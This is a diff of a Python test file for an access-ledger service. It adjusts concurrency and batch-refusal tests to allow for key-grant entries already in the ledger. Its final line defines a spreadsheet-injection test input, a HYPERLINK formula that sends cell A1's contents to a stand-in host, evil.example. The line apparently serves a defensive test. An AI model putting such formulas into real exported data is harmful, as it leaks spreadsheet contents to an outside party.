@@ -87,11 +87,18 @@ def bearer(token: str) -> dict[str, str]:
     return {"Authorization": f"Bearer {token}"}
 
 
+def ledger_size(base: str, keys: dict[str, str]) -> int:
+    status = httpx.get(f"{base}/v1/ledger/status", headers=bearer(keys["auditor"]))
+    return int(status.json()["size"])
+
+
 def test_record_concurrently_then_read_and_verify(server: tuple[str, dict[str, str]]) -> None:
     """16 clients record 20 accesses each; positions are unique; reports and verify agree."""
     base, keys = server
     body = access_command(HOUR_AGO, subject=subject(7))
     body.pop("command")
+    # The keys' grants are the ledger's first entries.
+    start = ledger_size(base, keys)
 
     def record(_n: int) -> int:
         reply = httpx.post(f"{base}/v1/accesses", json=body, headers=bearer(keys["source"]))
@@ -101,7 +108,7 @@ def test_record_concurrently_then_read_and_verify(server: tuple[str, dict[str, s
 
     with ThreadPoolExecutor(16) as pool:
         positions = list(pool.map(record, range(320)))
-    assert sorted(positions) == list(range(320))
+    assert sorted(positions) == list(range(start, start + 320))
 
     who = httpx.get(f"{base}/v1/subjects/{subject(7)}/who-saw?limit=5", headers=bearer(keys["dpo"]))
     assert who.status_code == 200, who.text
@@ -111,7 +118,7 @@ def test_record_concurrently_then_read_and_verify(server: tuple[str, dict[str, s
 
     verified = httpx.post(f"{base}/v1/ledger/verification", headers=bearer(keys["auditor"]))
     assert verified.json()["ok"] is True
-    assert verified.json()["size"] == 321
+    assert verified.json()["size"] == start + 321
 
 
 def test_errors_are_problem_documents(server: tuple[str, dict[str, str]]) -> None:
@@ -141,6 +148,7 @@ def test_a_batch_recording_one_entry_twice_is_refused_whole(
     overwrite the first and the reply said one entry was recorded.)
     """
     base, keys = server
+    before = ledger_size(base, keys)
     first = access_command(HOUR_AGO, subject=subject(1), source_ref="LL-77")
     second = access_command(HOUR_AGO, subject=subject(2), source_ref="LL-77")
     reply = httpx.post(
@@ -148,8 +156,7 @@ def test_a_batch_recording_one_entry_twice_is_refused_whole(
     )
     assert reply.status_code == 409, reply.text
     assert reply.json()["indexes"] == [0, 1]
-    status = httpx.get(f"{base}/v1/ledger/status", headers=bearer(keys["auditor"]))
-    assert status.json()["size"] == 0
+    assert ledger_size(base, keys) == before
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
